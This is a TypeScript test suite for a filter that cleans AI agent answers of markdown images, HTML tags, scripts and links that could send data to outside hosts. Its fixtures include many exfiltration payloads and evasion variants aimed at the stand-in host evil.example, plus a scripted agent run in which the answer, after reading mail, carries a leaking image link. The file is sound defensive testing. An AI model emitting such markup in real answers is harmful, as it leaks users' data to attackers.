import type { FlowOptions } from "@bailiwick/core";
import * as fc from "fast-check";
import { expect, test } from "vitest";

import { cleanAnswer, createAnswerFilter } from "./answer-guard.ts";
import { hostAllowed } from "./r8-answer.ts";
import { calls, readMail, run } from "./world.test.helper.ts";
import type { Ran } from "./world.test.helper.ts";

const sources = {
  userTexts: ["My site is https://mine.example/a, my mail mailto:ann@mine.example ."],
  resultTexts: () => ["See https://read.example/x?y=1 and more"],
};

function clean(text: string, options: FlowOptions = {}): string {
  const filter = createAnswerFilter(options, sources);
  return filter.push(text) + filter.end();
}

test("auto-fetching content is removed unless its host is allowed [flow.r8]", () => {
  const leaks = [
    "![pixel](https://evil.example/?q=1)",
    "![pixel](<https://evil.example/a b>)",
    "![pixel](//evil.example/a)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    `<img src="https://evil.example/p.png">`,
    `<img alt=">" src="https://evil.example/p.png">`,
    `<IMG/src=https://evil.example/p.png`,
    `<style>@import "https://evil.example/x";</style>`,
    `<link rel="prefetch" href="https://evil.example/x">`,
    `<iframe src='https://evil.example'></iframe>`,
    `<div style="background:url(https://evil.example/x)">a</div>`,
    `<b title=">" style="background:url(https://evil.example/x)">a</b>`,
    `<a href="https://evil.example" ping="https://evil.example/p">a</a>`,
    `<script>fetch("https://evil.example")</script>`,
  ];
  for (const leak of leaks) {
    const safe = clean(leak);
    expect(safe, leak).not.toMatch(/<(?:img|style|link|iframe|script|div)|!\[|https?:\/\/evil/iu);
  }
  expect(clean("![logo](https://cdn.ours.example/l.png)", { allowedHosts: ["*.ours.example"] })).toBe(
    "![logo](https://cdn.ours.example/l.png)",
  );
  expect(clean(`<img alt="a" src="https://ours.example/l.png">`, { allowedHosts: ["ours.example"] })).toBe(
    `<img alt="a" src="https://ours.example/l.png">`,
  );
  expect(clean("![logo](https://ours.example.evil.example/l.png)", { allowedHosts: ["ours.example"] })).toBe("logo");
});

test("a link is kept if its exact URL was in the conversation or a result; a composed one becomes text [flow.r8.links]", () => {
  expect(clean("[mine](https://mine.example/a) and https://read.example/x?y=1.")).toBe(
    "[mine](https://mine.example/a) and https://read.example/x?y=1.",
  );
  expect(clean("[click](https://read.example/x?y=1&leak=2)")).toBe("click");
  expect(clean("[click](https://read.example/x)")).toBe("click");
  expect(clean("go to https://evil.example/secret now")).toBe("go to https[:]//evil[.]example/secret now");
  expect(clean("(https://evil.example)")).toBe("(https[:]//evil[.]example)");
  expect(clean("<https://evil.example/a>")).toBe("https[:]//evil[.]example/a");
  expect(clean("see www.evil.example/a")).toBe("see www[.]evil[.]example/a");
  expect(clean("[x](javascript:alert(1))")).toBe("x");
  expect(clean("[x](/\\evil.example)")).toBe("x");
  for (const label of ["1", "a b", "a\nb", "a\\]b", "a\\[b"])
    expect(clean(`[${label}]: //evil.example/x "t"\nend`), label).toBe("\nend");
  expect(clean("[1]:\n //evil.example/x\nend")).toBe("\nend");
  expect(clean("[part](#a) [site](/docs/b)")).toBe("[part](#a) [site](/docs/b)");
  expect(clean(`<a href="https://mine.example/a">ok</a>`)).toBe(`<a href="https://mine.example/a">ok</a>`);
});

/** Each is an image, a tag or a link in some viewer, and none to a check with regular expressions. */
const disguised: readonly (readonly [given: string, expected: string])[] = [
  // Labels and URLs nested or escaped more deeply than a pattern follows.
  ["![[[x]]](//evil.example/p)", "!\\[[[x]]]\\([/]/evil.example/p)"],
  ["![a\\]b](//evil.example/p)", "a\\b]\\([/]/evil.example/p)"],
  ["[a](//evil.example/((p)))", "[a]\\([/]/evil.example/((p)))"],
  ["[a\\]b](//evil.example/p)", "[a\\]b]\\([/]/evil.example/p)"],
  ['[a](//evil.example "t(")', '[a]\\(//evil.example "t(")'],
  ["![a\\](https://ours.example/i) b](//evil.example/p)", "!\\[a\\](https://ours.example/i) b]\\([/]/evil.example/p)"],
  ["![a\n\nb](//evil.example/p)", "!\\[a\n\nb]\\([/]/evil.example/p)"],
  ["![`a`](https://ours.example/i)", "!\\[`a`](https://ours.example/i)"],
  // Removing a middle part joins its ends.
  ["<<z y>img src=//evil.example/p>", "&lt;img src=[/]/evil.example/p>"],
  ["<![](y)img src=//evil.example/p>", "&lt;img src=[/]/evil.example/p>"],
  ["<[img src=//evil.example/p](//z)>", "&lt;img src=[/]/evil.example/p>"],
  ["!<z y>[a](https://mine.example/a)", "!\\[a](https://mine.example/a)"],
  ["[a]<z y>(//evil.example/p)", "[a]\\([/]/evil.example/p)"],
  ["[a]<z y>: //evil.example/p\n", "[a]\\: [/]/evil.example/p\n"],
  ["htt<z y>ps://evil.example/p", "https[:]//evil[.]example/p"],
  ["ww<z y>w.evil.example/p", "www[.]evil[.]example/p"],
  ["x<z y>[1]: //evil.example/p\n", "x[1]: [/]/evil.example/p\n"],
  // A definition in a quotation or a list.
  ["> [1]: //evil.example/p\n", "> \n"],
  ["- 1. [1]: <//evil.example/p>\n", "- 1. \n"],
  ["[1\n2]: \\/\\/evil.example/p\n", "\n"],
  // Within a word, and where a viewer continues past the end.
  ["xhttps://evil.example/p", "xhttps[:]//evil[.]example/p"],
  ["xwww.evil.example/p", "xwww[.]evil[.]example/p"],
  ["(https://mine.example/a)secret", "(https[:]//mine[.]example/a)secret"],
  // Unclosed, so that text which a page adds after it would close it.
  ["<img src=//evil.example/p ", "&lt;img src=[/]/evil.example/p "],
];

test("text that only some viewers read as an image, a tag or a link is made inert [flow.r8] [flow.r8.links]", () => {
  const options = { allowedHosts: ["ours.example"], answerLinks: "verbatim" } as const;
  for (const [given, expected] of disguised) expect(clean(given, options), given).toBe(expected);
  for (const host of [
    "evil.example&sol;.ours.example",
    "evil.example&#47;.ours.example",
    "evil.example\\.ours.example",
  ])
    expect(clean(`![a](https://${host}/p)`, { allowedHosts: ["*.ours.example"] }), host).toBe("a");
});

test("text that only looks like a tag or a definition is not lost [flow.r8]", () => {
  for (const [given, expected] of [
    ["if a<b then it is less", "if a&lt;b then it is less"],
    ["[note]: this is prose\nand continues", "[note]: this is prose\nand continues"],
    ["use `Array<string>` and a [list] of <b>all</b>", "use `Array<string>` and a [list] of <b>all</b>"],
    ["C: a drive. ratio 1:2, time 10:30 :-) ::", "C: a drive. ratio 1:2, time 10:30 :-) ::"],
    ["mid [sentence] !", "mid [sentence] !"],
  ] as const)
    expect(clean(given), given).toBe(expected);
});

test("the link modes verbatim, allowlist and keep [flow.r8.answer-links]", () => {
  const text = "[a](https://mine.example/a) [b](https://docs.example/b) [c](https://evil.example/c)";
  const allowedHosts = ["docs.example"];
  expect(clean(text, { allowedHosts })).toBe("[a](https://mine.example/a) [b](https://docs.example/b) c");
  expect(clean(text, { allowedHosts, answerLinks: "allowlist" })).toBe("a [b](https://docs.example/b) c");
  expect(clean(text, { answerLinks: "keep" })).toBe(text);
});

const pieces = [
  ..."![x](https://evil.example/p) [a](https://mine.example/a) <img src='https://evil.example'> https://evil.example/q www.evil.example **b** a[0] x < y h ht http".split(
    " ",
  ),
  "[1]: https://evil.example/p\n",
  "\n\n",
  " ",
  "plain text",
  "!",
  "[",
  "](",
  "<",
];

test("a tag is kept in plain form if it fetches nothing, or only from allowed hosts [flow.r8]", () => {
  const allowedHosts = ["ours.example"];
  const [ours, mine] = ["https://ours.example/v", "https://mine.example/a"];
  const kept = [
    `<a href="${mine}" title="t">`,
    `<a title="t">`,
    `<a href="#part">`,
    `<b class="x">`,
    `<br/>`,
    `<img alt="a">`,
    `<img src="${ours}" alt="a" title="t" width="1" height="1">`,
    `<video src="${ours}" poster="${ours}" controls="c" type="t">`,
    `<audio src="${ours}">`,
    `</b>`,
  ];
  const gone = [
    `<b class='x'>`,
    `<b class=x>`,
    `<form>`,
    `<b src="${ours}">`,
    `<img src="https://evil.example/x">`,
    `<img src="${ours}" srcset="https://evil.example/x">`,
    `<img src="${ours}" onload="x">`,
    `<img src="${ours}" srcset="${ours}">`,
    `<video src="${ours}" poster="https://evil.example/x">`,
    `<object data="${ours}">`,
  ];
  for (const tag of kept) expect(clean(tag, { allowedHosts }), tag).toBe(tag);
  for (const tag of gone) expect(clean(tag, { allowedHosts }), tag).toBe("");
  for (const attributes of [
    `href="https://evil.example/x"`,
    `href="${mine}" style="x"`,
    `href="${mine}" target="x"`,
    `href='${mine}'`,
    `onclick="x" href="${mine}"`,
  ])
    expect(clean(`<a ${attributes}>go</a>`), attributes).toBe("<a>go</a>");
});

test("each link syntax keeps allowed links and turns others into text [flow.r8.links]", () => {
  const kept = [
    "[1]: https://mine.example/a",
    "<https://mine.example/a>",
    `[a](https://mine.example/a "title")`,
    "[a](<https://mine.example/a>)",
    "https://mine.example/a, and (https://mine.example/a).",
    "[a](./b?c=d#e) [f](/g)",
    "<mailto:ann@mine.example>",
    "plain text: no link",
    "a[0] < b[1]",
  ];
  for (const text of kept) expect(clean(text), text).toBe(text);
  const changed: readonly (readonly [given: string, expected: string])[] = [
    ["[1]: https://evil.example/a", ""],
    ["[](https://evil.example)", "https[:]//evil[.]example"],
    ["[ ](https://evil.example)", "https[:]//evil[.]example"],
    ["[https://evil.example](https://evil.example)", "https[:]//evil[.]example"],
    ["[a](//evil.example)", "a"],
    ["[a](mailto:eve@evil.example)", "a"],
    ["<mailto:eve@evil.example>", "mailto[:]eve@evil[.]example"],
    ["[a](ftp://mine.example/a)", "a"],
    ["https://evil.example/a!", "https[:]//evil[.]example/a!"],
    ["![a](https://mine.example/a)", "a"],
    ["![a][b] ![c]", "a c"],
    ["<style>x</style>y<script>z", "y"],
  ];
  for (const [given, expected] of changed) expect(clean(given), given).toBe(expected);
  expect(clean("[x](javascript:alert(1))", { answerLinks: "keep" })).toBe("x");
});

test("a host is allowed by its full name and port, over http only [flow.r8.answer-links]", () => {
  const allowed = (url: string, host: string): boolean => hostAllowed(url, [host]);
  for (const url of [
    "https://a.example/x",
    "http://A.EXAMPLE",
    "www.a.example".replace("www.", "https://"),
    "//a.example/x",
  ])
    expect(allowed(url, "A.example"), url).toBe(true);
  expect(allowed("www.a.example/x", "www.a.example")).toBe(true);
  expect(allowed("https://b.a.example", "*.a.example")).toBe(true);
  expect(allowed("https://a.example:8080/x", "a.example:8080")).toBe(true);
  for (const url of [
    "https://a.example.evil.example",
    "https://nota.example",
    "ftp://a.example",
    "https://a.example:8080",
    "https://[",
    "a.example",
    "https://user@evil.example",
  ])
    expect(allowed(url, "a.example"), url).toBe(false);
  for (const url of ["https://a.example", "https://nota.example"]) expect(allowed(url, "*.a.example"), url).toBe(false);
  expect(hostAllowed("https://a.example", [])).toBe(false);
});

/** Output for a text that arrives in pieces of given sizes. */
function streamed(text: string, sizes: readonly number[]): string {
  const filter = createAnswerFilter({}, sources);
  let given = "";
  for (let at = 0, turn = 0; at < text.length; turn += 1) {
    const size = sizes[turn % sizes.length] ?? 1;
    given += filter.push(text.slice(at, at + size));
    at += size;
  }
  return given + filter.end();
}

const sizes = fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 40 });

test("for any chunking, an answer fetches and links only addresses that the user named [flow.r8.streams]", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), sizes, (parts, cuts) => {
      expect(streamed(parts.join(" "), cuts)).not.toMatch(/https?:\/\/evil|!\[[^\]]*\]\(|<img/u);
    }),
    { numRuns: 300 },
  );
});

/** Constructs that are whole. */
const constructs = [
  "![x](https://evil.example/p)",
  "![x][1]",
  "[a](https://mine.example/a)",
  "[c](https://evil.example/c)",
  "[d][1]",
  "[a [b] c](https://evil.example/c)",
  "[e](https://evil.example/(x))",
  "[f][[g]] ![h [i]](https://evil.example/p)",
  "[j]\n\nk",
  "[l](m\n\nn",
  "[s](https://evil.example/t\n 'u')",
  "[1]: https://evil.example/p\n",
  "[2]:\n https://evil.example/p\n",
  "<img src='https://evil.example'>",
  "<style>a{}</style>",
  "<b>",
  "<https://evil.example/a>",
  "https://evil.example/q",
  "HTTPS://evil.example/q",
  "ftp://evil.example/q",
  "wss://evil.example/q",
  "www.evil.example",
  "x < y",
  "a[0]",
  "ha! h http f w",
  "\n\n",
  "plain text",
];

test("an answer of complete constructs is the same for any split into chunks, and its text is not held back [flow.r8.streams]", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...constructs), { maxLength: 12 }), sizes, (parts, cuts) => {
      const text = parts.join(" ");
      // Blanks before a removed definition may already be in the output.
      const trimmed = (given: string): string => given.replaceAll(/[ \t]+$/gmu, "");
      expect(trimmed(streamed(text, cuts))).toBe(trimmed(cleanAnswer(text, {}, sources)));
    }),
    { numRuns: 300 },
  );
  const filter = createAnswerFilter({}, sources);
  for (const piece of ["Hel", "lo ", "oh", "! Yes", " a < b", " x[0] y", " [a]\n\n", "a", " 5 < 5"])
    expect(filter.push(piece), piece).toBe(piece);
  for (const [piece, given] of [
    ["<style>a</style> b", " b"],
    ["<b>c</b> d", "<b>c</b> d"],
    ["[e](/f) g", "[e](/f) g"],
    ["[h][i] j", "[h][i] j"],
    ["[k]: /l\n m", "[k]: /l\n m"],
    ["[o](p\n\nq r", "[o]\\(p\n\nq r"],
    [" https://mine.example/a n", " https://mine.example/a n"],
    [" http", " http"],
  ] as const)
    expect(filter.push(piece), piece).toBe(given);
  expect(filter.push("y ")).toBe("y ");
  expect(filter.push("<img src='https://evil.example/")).toBe("");
  expect(filter.push("a".repeat(5_000))).not.toContain("<img");
  expect(filter.push("on") + filter.end()).toBe("on");
  // Text of an open construct is held for a limited length.
  const waiting = createAnswerFilter({}, sources);
  expect(waiting.push(`<b ${"a".repeat(4_093)}`)).toBe("");
  expect(waiting.push("a")).toBe(`&lt;b ${"a".repeat(4_094)}`);
  const style = createAnswerFilter({}, sources);
  const rules = "a".repeat(5_000);
  expect(style.push(`<style>${rules}`) + style.end()).toBe(`&lt;style>${rules}`);
});

test("the answer of a run passes the filter, streamed or not [flow.r8]", async () => {
  const ran: Ran = [];
  const result = await run({
    tools: [readMail(ran)],
    script: [calls(["read_mail"]), "![p](https://evil.example/?d=1) see https://evil.example/x"],
  });
  // The second link is verbatim what one result said.
  expect(result.output.text).toBe("p see https://evil.example/x");
});

test("a composed link whose text is its address is written so that no viewer autolinks it [flow.r8]", () => {
  const sources = { userTexts: [], resultTexts: () => [] };
  expect(cleanAnswer("See [evil.example/p](evil.example/p).", {}, sources)).toBe("See evil[.]example/p.");
  expect(cleanAnswer("See [ evil.example/p ](evil.example/p).", {}, sources)).toBe("See evil[.]example/p.");
});
